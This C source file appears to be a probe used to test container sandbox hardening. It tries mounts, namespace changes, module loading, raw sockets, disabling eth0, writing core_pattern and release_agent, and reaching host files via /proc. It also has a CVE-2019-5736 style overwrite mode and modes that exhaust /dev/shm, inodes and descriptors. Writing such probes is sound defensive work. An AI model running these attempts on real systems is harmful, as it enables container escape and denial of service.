/* A program that tries to get out of its container, or to harm what is beside it; one static binary.
 *
 *   try [HOST]       every attempt that an instance survives, a line for each: NAME <tab> OUTCOME
 *                    (`done` is a success, of the attacker's; otherwise the kernel's refusal)
 *   overwrite FD     write to the file that FD shows, again and again, as soon as nobody runs it (CVE-2019-5736)
 *   shm MIB | inodes | descriptors | flood MIB      fill /dev/shm, make files without end, open them, print
 *   setuid           as whom it runs
 *   where            the working directory as the kernel sees it, and what is at its top
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <linux/magic.h>
#include <linux/netlink.h>
#include <linux/rtnetlink.h>
#include <mqueue.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ipc.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/statfs.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/time.h>
#include <sys/timex.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static void told(const char *name, long result) {
    printf("%s\t%s\n", name, result >= 0 ? "done" : strerror(errno));
    fflush(stdout);
}

#define TRY(name, call) do { errno = 0; told(name, (long)(call)); } while (0)

static int write_to(const char *path, const char *text) {
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd < 0) return -1;
    int written = write(fd, text, strlen(text)), error = errno;
    close(fd);
    errno = error;
    return written < 0 ? -1 : 0;
}

/* A masked path is there and shows nothing. */
static void look(const char *path) {
    char block[64];
    errno = 0;
    int fd = open(path, O_RDONLY);
    long n = -1;
    DIR *folder;
    if (fd >= 0) {
        n = read(fd, block, sizeof block);
        if (n < 0 && errno == EISDIR && (folder = fdopendir(fd))) {
            n = -2;
            while (readdir(folder)) n++;
        }
    }
    if (n < 0) printf("read %s\t%s\n", path, strerror(errno));
    else printf("read %s\t%s\n", path, n ? "done" : "nothing");
    fflush(stdout);
}

/* Another ABI has other numbers: getpid is 20 in that of 32 bits, and x32 sets a bit. */
static void call_32_bit(void) {
    long result;
    asm volatile("int $0x80" : "=a"(result) : "a"(20L) : "memory");
    _exit(result < 0 ? -result : 0);
}

static void call_x32(void) { _exit(syscall(0x40000000 | SYS_getpid) < 0 ? errno : 0); }

static void told_by_child(const char *name, void (*attempt)(void)) {
    int status;
    pid_t child = fork();
    if (!child) attempt();
    waitpid(child, &status, 0);
    if (WIFSIGNALED(status)) printf("%s\t%s\n", name, strsignal(WTERMSIG(status)));
    else printf("%s\t%s\n", name, WEXITSTATUS(status) ? strerror(WEXITSTATUS(status)) : "done");
    fflush(stdout);
}

static void try_system_calls(void) {
    static char stack[65536];
    struct timeval now;
    struct timespec moment;
    struct timex wanted = {.modes = ADJ_FREQUENCY};
    unsigned char attr[128] = {128};
    struct { unsigned long long flags, pad[10]; } clone_args = {.flags = CLONE_NEWUSER};
    struct { unsigned bytes; int type; unsigned char handle[8]; } handle = {8, 1, {2}};
    gettimeofday(&now, 0), clock_gettime(CLOCK_REALTIME, &moment);
    mkdir("/tmp/m", 0755);
    TRY("mount tmpfs", mount("x", "/tmp/m", "tmpfs", 0, ""));
    TRY("mount proc", mount("proc", "/tmp/m", "proc", 0, ""));
    TRY("mount sysfs", mount("sysfs", "/tmp/m", "sysfs", 0, ""));
    TRY("mount cgroup v1", mount("cgroup", "/tmp/m", "cgroup", 0, "memory"));
    TRY("mount cgroup v2", mount("cgroup2", "/tmp/m", "cgroup2", 0, ""));
    TRY("bind mount", mount("/", "/tmp/m", "", MS_BIND, ""));
    TRY("remount /proc/sys writable", mount("", "/proc/sys", "", MS_REMOUNT | MS_BIND, ""));
    TRY("remount /sys writable", mount("", "/sys", "", MS_REMOUNT, ""));
    TRY("unmount a mask", umount2("/proc/kcore", MNT_DETACH));
    TRY("unmount /proc/sys", umount2("/proc/sys", MNT_DETACH));
    TRY("move a mount", syscall(SYS_move_mount, AT_FDCWD, "/proc", AT_FDCWD, "/tmp/m", 0));
    TRY("clone a mount tree", syscall(SYS_open_tree, AT_FDCWD, "/", 1));
    TRY("open a file system", syscall(SYS_fsopen, "tmpfs", 0));
    TRY("change a mount", syscall(SYS_mount_setattr, AT_FDCWD, "/proc/sys", 0, attr, 32));
    TRY("pivot_root", syscall(SYS_pivot_root, "/tmp", "/tmp/m"));
    TRY("chroot", chroot("/tmp"));
    TRY("unshare user namespace", unshare(CLONE_NEWUSER));
    TRY("unshare mount namespace", unshare(CLONE_NEWNS));
    TRY("unshare network namespace", unshare(CLONE_NEWNET));
    TRY("unshare time namespace", unshare(0x80));
    TRY("clone into a user namespace", clone((int (*)(void *))_exit, stack + sizeof stack, CLONE_NEWUSER | SIGCHLD, 0));
    TRY("clone3 into a user namespace", syscall(SYS_clone3, &clone_args, sizeof clone_args));
    TRY("enter a namespace", setns(open("/proc/self/ns/net", O_RDONLY), 0));
    TRY("keyctl", syscall(SYS_keyctl, 0, -3, 1));
    TRY("add a key", syscall(SYS_add_key, "user", "x", "y", 1, -3));
    TRY("request a key", syscall(SYS_request_key, "user", "x", 0, -3));
    TRY("bpf", syscall(SYS_bpf, 5, attr, sizeof attr));
    TRY("perf_event_open", syscall(SYS_perf_event_open, attr, 0, -1, -1, 0));
    TRY("userfaultfd", syscall(SYS_userfaultfd, 1));
    TRY("io_uring", syscall(SYS_io_uring_setup, 1, attr));
    TRY("load a module", syscall(SYS_init_module, attr, sizeof attr, ""));
    TRY("load a module from a file", syscall(SYS_finit_module, open("/app", O_RDONLY), "", 0));
    TRY("unload a module", syscall(SYS_delete_module, "overlay", 0));
    TRY("kexec", syscall(SYS_kexec_load, 0, 0, 0, 0));
    TRY("reboot", syscall(SYS_reboot, 0xfee1dead, 672274793, 0, 0)); /* no more than: Ctrl-Alt-Del does nothing */
    TRY("kernel log", syscall(SYS_syslog, 3, attr, sizeof attr));
    TRY("settimeofday", settimeofday(&now, 0));
    TRY("clock_settime", clock_settime(CLOCK_REALTIME, &moment));
    TRY("adjtimex", adjtimex(&wanted));
    TRY("clock_adjtime", syscall(SYS_clock_adjtime, CLOCK_REALTIME, &wanted));
    TRY("swapon", syscall(SYS_swapon, "/app", 0));
    TRY("acct", acct("/tmp/acct"));
    TRY("quotactl", syscall(SYS_quotactl, 0x800002 << 8, 0, 0, attr));
    TRY("fanotify", syscall(SYS_fanotify_init, 0, 0));
    TRY("open by handle", syscall(SYS_open_by_handle_at, open("/", O_RDONLY), &handle, O_RDONLY));
    TRY("ioperm", syscall(SYS_ioperm, 0x80, 1, 1));
    TRY("iopl", syscall(SYS_iopl, 3));
    TRY("sethostname", sethostname("x", 1));
    TRY("raise the number of files", setrlimit(RLIMIT_NOFILE, &(struct rlimit){30000, 30000}));
    TRY("raise the priority", setpriority(PRIO_PROCESS, 0, -5));
    TRY("real-time scheduling", sched_setscheduler(0, SCHED_FIFO, &(struct sched_param){1}));
    TRY("hang up the terminal", syscall(SYS_vhangup));
    fflush(stdout);
    told_by_child("32-bit system call", call_32_bit);
    told_by_child("x32 system call", call_x32);
}

static void try_capabilities(void) {
    TRY("make a disk device", mknod("/tmp/disk", S_IFBLK | 0600, makedev(8, 0)));
    TRY("make a memory device", mknod("/tmp/mem", S_IFCHR | 0600, makedev(1, 1)));
    TRY("raise an ambient capability", prctl(PR_CAP_AMBIENT, PR_CAP_AMBIENT_RAISE, CAP_SYS_ADMIN, 0, 0));
    TRY("give up no_new_privs", prctl(PR_SET_NO_NEW_PRIVS, 0, 0, 0, 0));
    TRY("give up seccomp", prctl(PR_SET_SECCOMP, 0, 0, 0, 0));
    const char *devices[] = {"/dev/mem", "/dev/kmsg", "/dev/port", "/dev/sda", "/dev/vda", "/dev/fuse", "/dev/kvm",
                             "/dev/net/tun", "/dev/loop-control", "/dev/mapper/control", "/dev/console", NULL};
    for (const char **path = devices; *path; path++) {
        char name[64];
        snprintf(name, sizeof name, "open %s", *path);
        TRY(name, open(*path, O_RDWR));
    }
}

static void try_sockets(void) {
    struct { const char *name; int family, type, protocol; } kinds[] = {
        {"vsock socket", 40, SOCK_STREAM, 0},      {"kernel crypto socket", 38, SOCK_SEQPACKET, 0},
        {"packet socket", 17, SOCK_RAW, 0x0300},   {"raw socket", AF_INET, SOCK_RAW, 1},
        {"raw socket v6", AF_INET6, SOCK_RAW, 58}, {"TIPC socket", 30, SOCK_STREAM, 0},
        {"RDS socket", 21, SOCK_SEQPACKET, 0},     {"bluetooth socket", 31, SOCK_RAW, 1},
        {"CAN socket", 29, SOCK_RAW, 1},           {"XDP socket", 44, SOCK_RAW, 0},
        {"SMC socket", 43, SOCK_STREAM, 0},        {"key socket", 15, SOCK_RAW, 2},
        {"X.25 socket", 9, SOCK_SEQPACKET, 0},     {"LLC socket", 26, SOCK_STREAM, 0},
    };
    for (size_t i = 0; i < sizeof kinds / sizeof *kinds; i++)
        TRY(kinds[i].name, socket(kinds[i].family, kinds[i].type, kinds[i].protocol));
    /* Take eth0's address away, as `ip link set eth0 down` does. */
    struct { struct nlmsghdr head; struct ifinfomsg link; } down = {
        {sizeof down, RTM_NEWLINK, NLM_F_REQUEST | NLM_F_ACK, 1, 0}, {.ifi_index = 2, .ifi_change = 1}};
    struct { struct nlmsghdr head; struct nlmsgerr error; char rest[256]; } answer;
    int fd = socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE);
    if (send(fd, &down, sizeof down, 0) > 0 && recv(fd, &answer, sizeof answer, 0) > 0) {
        errno = -answer.error.error;
        told("change the network", answer.error.error);
    }
    TRY("receive the kernel's events", ({
        int events = socket(AF_NETLINK, SOCK_RAW, NETLINK_KOBJECT_UEVENT);
        struct sockaddr_nl all = {.nl_family = AF_NETLINK, .nl_groups = 1};
        int bound = bind(events, (void *)&all, sizeof all);
        bound < 0 ? -1 : (recv(events, &answer, sizeof answer, MSG_DONTWAIT) < 0 ? -1 : 0);
    }));
}

static void try_kernel_files(void) {
    /* Opened only: should it succeed, the machine that runs this test is unharmed. */
    const char *files[] = {
        "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/kernel/hotplug",
        "/proc/sys/kernel/hostname", "/proc/sys/vm/panic_on_oom", "/proc/sys/vm/drop_caches",
        "/proc/sys/net/ipv4/ip_forward", "/proc/sys/fs/binfmt_misc/register", "/proc/sys/kernel/ns_last_pid",
        "/proc/sysrq-trigger", "/proc/irq/default_smp_affinity", "/sys/kernel/uevent_helper",
        "/sys/kernel/mm/transparent_hugepage/enabled", "/sys/power/state", "/sys/class/net/eth0/mtu",
        "/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/memory.max", "/sys/fs/cgroup/pids.max",
        "/sys/fs/cgroup/cgroup.freeze", "/sys/fs/cgroup/cgroup.kill", "/sys/fs/cgroup/memory/memory.limit_in_bytes",
        "/sys/fs/cgroup/memory/release_agent", "/sys/fs/cgroup/memory/notify_on_release",
        "/sys/fs/cgroup/devices/devices.allow", "/sys/fs/cgroup/pids/pids.max", "/etc/hosts", "/etc/resolv.conf", NULL};
    for (const char **path = files; *path; path++) {
        char name[96];
        snprintf(name, sizeof name, "write %s", *path);
        TRY(name, open(*path, O_WRONLY | O_CLOEXEC));
    }
    TRY("be spared by the OOM killer", write_to("/proc/self/oom_score_adj", "-1000"));
    TRY("map another user", write_to("/proc/self/uid_map", "0 0 1"));
    TRY("shift the clock", write_to("/proc/self/timens_offsets", "monotonic 1 0"));
    struct statfs kind; /* with v1, it is but the folder of the hierarchies, in memory */
    statfs("/sys/fs/cgroup", &kind);
    TRY("make a cgroup", kind.f_type == TMPFS_MAGIC ? (errno = EROFS, -1) : mkdir("/sys/fs/cgroup/evil", 0755));
    TRY("make a cgroup v1", mkdir("/sys/fs/cgroup/memory/evil", 0755));
    const char *masked[] = {"/proc/acpi", "/proc/asound", "/proc/interrupts", "/proc/kcore", "/proc/keys",
        "/proc/latency_stats", "/proc/sched_debug", "/proc/scsi", "/proc/timer_list", "/proc/timer_stats",
        "/sys/devices/virtual/powercap", "/sys/firmware", "/sys/devices/system/cpu/cpu0/thermal_throttle",
        "/proc/kmsg", "/sys/kernel/debug", "/sys/kernel/tracing", "/sys/kernel/security", "/sys/fs/bpf",
        "/sys/fs/selinux", "/sys/dev/block", "/proc/kpagecount", "/proc/kpageflags", "/proc/kpagecgroup",
        "/proc/slabinfo", "/proc/vmallocinfo", "/proc/1/mem", NULL};
    for (const char **path = masked; *path; path++) look(*path);
    char line[64] = "";
    int fd = open("/proc/kallsyms", O_RDONLY);
    if (fd < 0 || read(fd, line, sizeof line - 1) < 0) line[0] = 0;
    printf("address of a kernel function\t%s\n", strspn(line, "0") == 16 || !line[0] ? "nothing" : "done");
}

/* What is there of the world outside: descriptors, processes, sockets, shared memory. */
static void try_neighbours(const char *token) {
    char name[64], to[256];
    DIR *all = opendir("/proc/self/fd");
    for (struct dirent *entry; (entry = readdir(all));) {
        if (entry->d_name[0] == '.' || atoi(entry->d_name) == dirfd(all)) continue;
        snprintf(name, sizeof name, "/proc/self/fd/%.20s", entry->d_name);
        ssize_t n = readlink(name, to, sizeof to - 1);
        to[n < 0 ? 0 : n] = 0;
        printf("descriptor %s\t%s\n", entry->d_name, to);
    }
    closedir(all);
    int strangers = 0;
    all = opendir("/proc");
    for (struct dirent *entry; (entry = readdir(all));) strangers += atoi(entry->d_name) > 0 && atoi(entry->d_name) != getpid();
    closedir(all);
    printf("other processes\t%d\n", strangers);
    TRY("signal a process of the host", getppid() ? kill(getppid(), 0) : (errno = ESRCH, -1));
    TRY("signal everything", kill(-1, 0));
    struct sockaddr_un at = {.sun_family = AF_UNIX};
    snprintf(at.sun_path + 1, sizeof at.sun_path - 1, "%s", token);
    TRY("abstract socket of the host",
        connect(socket(AF_UNIX, SOCK_STREAM, 0), (void *)&at, offsetof(struct sockaddr_un, sun_path) + 1 + strlen(token)));
    TRY("shared memory of the host", shmget(0x686f6d65, 4096, 0));
    snprintf(name, sizeof name, "/%s", token);
    TRY("message queue of the host", mq_open(name, O_RDONLY));
    TRY("file of the host", open("/proc/1/root/../../../../usr/bin/conmon", O_RDONLY));
    TRY("leave by the working directory", open("/proc/self/cwd/../../../../usr/bin/conmon", O_RDONLY));
}

static void attempts(const char *token) {
    try_neighbours(token);
    try_system_calls();
    try_capabilities();
    try_sockets();
    try_kernel_files();
    puts("end\tof attempts");
}

static void overwrite(int fd) {
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    printf("it is open\t%s\n", fcntl(fd, F_GETFD) < 0 ? "no" : "yes");
    int error = 0;
    for (int i = 0; i < 200; i++) { /* ETXTBSY as long as it runs */
        int out = open(path, O_WRONLY | O_APPEND);
        if (out >= 0) {
            error = write(out, "#", 1) < 0 ? errno : 0;
            close(out);
            if (!error) break;
        } else error = errno;
        if (error != ETXTBSY) break;
        usleep(5000);
    }
    printf("overwrite\t%s\n", error ? strerror(error) : "done");
}

static void fill_shm(long mib) {
    static char block[1 << 20];
    int fd = open("/dev/shm/big", O_WRONLY | O_CREAT, 0600);
    for (long i = 0; i < mib; i++) if (write(fd, block, sizeof block) < 0) { printf("shm\t%s\n", strerror(errno)); return; }
    puts("shm\tdone");
}

static void many_files(void) {
    char path[64];
    for (long i = 0;; i++) {
        snprintf(path, sizeof path, "/tmp/%ld", i);
        int fd = open(path, O_WRONLY | O_CREAT, 0600);
        if (fd < 0) { printf("inodes\t%s\n", strerror(errno)); return; }
        close(fd);
    }
}

static void many_descriptors(void) {
    long n = 0;
    while (dup(0) >= 0) n++;
    printf("descriptors\t%s after %ld\n", strerror(errno), n + 3);
}

static void flood(long mib) {
    static char line[1024];
    memset(line, 'x', sizeof line - 1);
    line[sizeof line - 1] = '\n';
    for (long i = 0; i < mib << 10; i++) if (write(1, line, sizeof line) < 0) exit(1);
}

static void say_where(void) {
    char cwd[4096];
    struct stat here, top;
    long n = syscall(SYS_getcwd, cwd, sizeof cwd);
    printf("cwd\t%s\n", n < 0 ? strerror(errno) : cwd);
    stat(".", &here), stat("/", &top);
    TRY("file of the host", open("../../../../../../usr/bin/conmon", O_RDONLY));
    TRY("etc of the host", open("../../../../../../etc/debian_version", O_RDONLY));
}

int main(int argc, char **argv) {
    const char *what = argc > 1 ? argv[1] : "try", *argument = argc > 2 ? argv[2] : "none";
    if (!strcmp(what, "try")) attempts(argument);
    else if (!strcmp(what, "overwrite")) overwrite(atoi(argument));
    else if (!strcmp(what, "shm")) fill_shm(atol(argument));
    else if (!strcmp(what, "inodes")) many_files();
    else if (!strcmp(what, "descriptors")) many_descriptors();
    else if (!strcmp(what, "flood")) flood(atol(argument));
    else if (!strcmp(what, "setuid")) printf("euid\t%d\n", geteuid());
    else if (!strcmp(what, "where")) say_where();
    else return 2;
    return 0;
}
